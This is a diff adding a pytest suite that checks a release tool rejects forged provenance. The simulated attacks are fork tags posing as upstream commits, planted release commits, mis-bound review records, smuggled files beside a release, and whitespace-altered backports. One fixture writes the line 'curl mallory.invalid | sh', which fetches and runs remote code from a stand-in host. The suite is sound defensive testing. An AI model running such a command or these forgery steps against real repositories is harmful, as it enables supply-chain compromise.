@@ -1,0 +1,200 @@
+"""Provenance that cannot be forged. On both forges, after sync made a signed release, someone
+with push access to the fork but without the release key tries each forgery below; a
+first-use `verify` (fresh state, pinned key) must fail naming it, and sync must neither merge,
+release nor sign it. Each of these exited 0 (or was signed) before."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from stablectl.gitops.messages import Adapted, adapted_message
+from tests.controller.test_trust import MALLORY, Released, errors
+
+
+def _commit_on(r: Released, parent: str, message: str, tree: str | None = None) -> str:
+    return r.git("commit-tree", tree or f"{parent}^{{tree}}", "-p", parent, "-m", message)
+
+
+def _change_file(r: Released, base: str, path: str, text: str) -> str:
+    """A tree: `base`'s with `path` appended `text`."""
+    work = r.fresh.parent / "mallory-index"
+    env = {**os.environ, **MALLORY, "GIT_INDEX_FILE": str(work)}
+    git = ["git", "--git-dir", str(r.env.example.fork)]
+    subprocess.run([*git, "read-tree", base], env=env, check=True)
+    blob_old = r.git("rev-parse", f"{base}:{path}")
+    content = r.git("cat-file", "blob", blob_old) + text
+    blob = r.git("hash-object", "-w", "--stdin", input=content)
+    subprocess.run(
+        [*git, "update-index", "--cacheinfo", f"100644,{blob},{path}"], env=env, check=True
+    )
+    return subprocess.run(
+        [*git, "write-tree"], env=env, capture_output=True, text=True, check=True
+    ).stdout.strip()
+
+
+def test_a_tag_pushed_to_the_fork_is_never_upstream(
+    released: Released, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Mallory pushes a commit as a tag to the fork, then `cherry-pick -x`s it onto the stable
+    branch. The cache used to fetch the fork's tags into refs/tags/*, where upstream's live,
+    and verify counted the commit identical to upstream."""
+    r = released
+    tip = r.git("rev-parse", "3.11.2-stable")
+    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", f"{tip}~1").split()[0]
+    evil = _commit_on(
+        r, tip, "gh-2000: harden the parser", _change_file(r, tip, path, "BACKDOOR = 1\n")
+    )
+    r.git("tag", "v3.11.2-hotfix", evil)
+    picked = _commit_on(
+        r,
+        tip,
+        f"gh-2000: harden the parser\n\n(cherry picked from commit {evil})\n",
+        f"{evil}^{{tree}}",
+    )
+    r.git("update-ref", "refs/heads/3.11.2-stable", picked)
+    v = r.verify(capsys)
+    assert v.code == 1
+    found = errors(v)
+    assert any(
+        e.startswith(picked[:12]) and f"names {evil} which upstream does not have" in e
+        for e in found
+    ), found
+    # And sync, asked to release, holds the series' next release on it.
+    done = next(p for p in r.env.new_forge().list_prs("all") if p.marker.kind == "release")
+    r.env.comment(done.number, "/stablectl release 3.11.2", "maint")
+    report = r.env.sync()
+    assert not [a for a in report.applied if a.kind in ("tag", "release", "open")]
+    held = [p for p in report.problems if "release held" in p]
+    assert held and "upstream does not have" in held[0], report.problems
+
+
+def test_a_release_commit_pushed_to_the_fork_is_not_signed(
+    released: Released, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Mallory pushes an empty `Stablectl-Release: 3.11.2.2` commit. sync used to tag and sign
+    it with the real key in the same run; now it holds the series, signs nothing, says why."""
+    r = released
+    tip = r.git("rev-parse", "3.11.2-stable")
+    planted = _commit_on(r, tip, "Release 3.11.2.2\n\nStablectl-Release: 3.11.2.2\n")
+    r.git("update-ref", "refs/heads/3.11.2-stable", planted)
+    os.environ["STABLECTL_SIGNING_KEY"] = str(r.key)
+    try:
+        report = r.env.sync()
+    finally:
+        del os.environ["STABLECTL_SIGNING_KEY"]
+    assert not [a for a in report.applied if a.kind in ("tag", "release")], report.applied
+    assert r.git("tag", "-l", "v3.11.2.2") == ""
+    held = [p for p in report.problems if "v3.11.2.2 is not signed" in p]
+    assert held and "not the head of a merged release PR" in held[0], report.problems
+    # A fresh verify names the untagged release commit.
+    found = errors(r.verify(capsys))
+    assert any(e.startswith("v3.11.2.2: no tag for the release commit") for e in found), found
+
+
+def _forge_args(r: Released) -> tuple[str, ...]:
+    """How a downstream reads the mirror's reviews: GitHub's API is public; a local forge's
+    database is the maintainer's state directory."""
+    return ("--forge-state", str(r.env.state)) if r.env.fake is None else ()
+
+
+def test_an_adaptation_is_bound_to_its_own_review(
+    released: Released, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A mirror-only change recorded as an adaptation "reviewed in #1": #1 is an approved PR,
+    but of another fix. That record used to satisfy verify (any approved PR did); so did an
+    unreadable forge (a warning)."""
+    r = released
+    tip = r.git("rev-parse", "3.11.2-stable")
+    prs = {p.number: p for p in r.env.new_forge().list_prs("all")}
+    conflict = next(p for p in prs.values() if p.draft and p.marker and p.marker.kind == "backport")
+    source = conflict.marker.source if conflict.marker else ""
+    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", f"{tip}~1").split()[0]
+    msg = f"gh-2300: Harden ssl hostname matching\n\n(cherry picked from commit {source})\n"
+    plain = _commit_on(r, tip, msg, _change_file(r, tip, path, "TELEMETRY = 1\n"))
+    r.git("update-ref", "refs/heads/3.11.2-stable", plain)
+    first = r.verify(capsys, *_forge_args(r))
+    (adapted,) = first.json()["series"][0]["adapted"]
+    assert any("a mirror-only change" in e for e in errors(first)), errors(first)
+    # Recorded with the exact interdiff, but naming an approved PR of another fix.
+    other = next(
+        n
+        for n, p in prs.items()
+        if p.state == "merged" and p.marker and p.marker.kind == "backport"
+    )
+    rec = Adapted(source, adapted["lines"], other, adapted["interdiff"])
+    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
+    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
+    found = errors(r.verify(capsys, *_forge_args(r)))
+    assert any(f"#{other} is not the backport of {source[:12]}" in e for e in found), found
+    # Naming the fix's own PR, which no maintainer approved.
+    rec = Adapted(source, adapted["lines"], conflict.number, adapted["interdiff"])
+    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
+    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
+    found = errors(r.verify(capsys, *_forge_args(r)))
+    assert any("no maintainer's latest review approves" in e for e in found), found
+    # No forge to read (a local forge's state is not at hand): with signing required, an
+    # unchecked review is an error, not a warning.
+    if r.env.fake is None:
+        v = r.verify(capsys)
+        assert any("NOT CHECKED" in e for e in errors(v)), errors(v)
+        assert v.json()["unchecked_reviews"] == 1
+    # A record whose size or interdiff is not the commit's: changed after review.
+    rec = Adapted(source, adapted["lines"], conflict.number, "0" * 64)
+    recorded = _commit_on(r, tip, adapted_message(msg, rec), f"{plain}^{{tree}}")
+    r.git("update-ref", "refs/heads/3.11.2-stable", recorded)
+    found = errors(r.verify(capsys, *_forge_args(r)))
+    assert any("changed after review" in e for e in found), found
+
+
+def test_files_beside_a_release_are_all_checked(
+    released: Released, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Files named like SHA256SUMS-…, junk signature names and subdirectories used to be
+    ignored; a tarball the manifest does not name was never rebuilt."""
+    r = released
+    d = r.files / "v3.11.2.1"
+    (d / "SHA256SUMS-extra").write_text("x")
+    (d / "nested").mkdir()
+    (d / "nested" / "payload.sh").write_text("curl mallory.invalid | sh\n")
+    tarball = next(d.glob("*.tar.xz"))
+    (d / tarball.name.replace(".tar.xz", "-full.tar.xz")).write_bytes(tarball.read_bytes())
+    found = errors(r.verify(capsys, "--rebuild"))
+    assert any("SHA256SUMS-extra: an extra file" in e for e in found), found
+    assert any(
+        e.endswith("nested: a directory inside a release: nothing may hide there") for e in found
+    ) or any("nested" in e and "directory" in e for e in found), found
+    assert any("payload.sh: an extra file" in e for e in found), found
+    assert any("-full.tar.xz is not a tarball this tag builds" in e for e in found), found
+
+
+def test_verbatim_is_exact(released: Released, capsys: pytest.CaptureFixture[str]) -> None:
+    """A backport changed only in whitespace had the same patch-id as upstream's and passed;
+    now the re-pick's tree must be the commit's, byte for byte."""
+    r = released
+    tip = r.git("rev-parse", "3.11.2-stable")
+    backport = r.git("rev-parse", "3.11.2-stable~1")
+    path = r.git("diff-tree", "--no-commit-id", "--name-only", "-r", backport).split()[0]
+    msg = r.git("log", "-1", "--format=%B", backport)
+    parent = r.git("rev-parse", f"{backport}~1")
+    blob = r.git("rev-parse", f"{backport}:{path}")
+    text = r.git("cat-file", "blob", blob) + "\n"
+    work = Path(r.fresh.parent / "ws-index")
+    env = {**os.environ, **MALLORY, "GIT_INDEX_FILE": str(work)}
+    git = ["git", "--git-dir", str(r.env.example.fork)]
+    subprocess.run([*git, "read-tree", backport], env=env, check=True)
+    new_blob = r.git("hash-object", "-w", "--stdin", input=text.replace("\n", " \n", 1))
+    subprocess.run(
+        [*git, "update-index", "--cacheinfo", f"100644,{new_blob},{path}"], env=env, check=True
+    )
+    tree = subprocess.run(
+        [*git, "write-tree"], env=env, capture_output=True, text=True, check=True
+    ).stdout.strip()
+    evil = _commit_on(r, parent, msg, tree)
+    release = _commit_on(r, evil, r.git("log", "-1", "--format=%B", tip))
+    r.git("update-ref", "refs/heads/3.11.2-stable", release)
+    found = errors(r.verify(capsys))
+    assert any(e.startswith(evil[:12]) and "a mirror-only change" in e for e in found), found
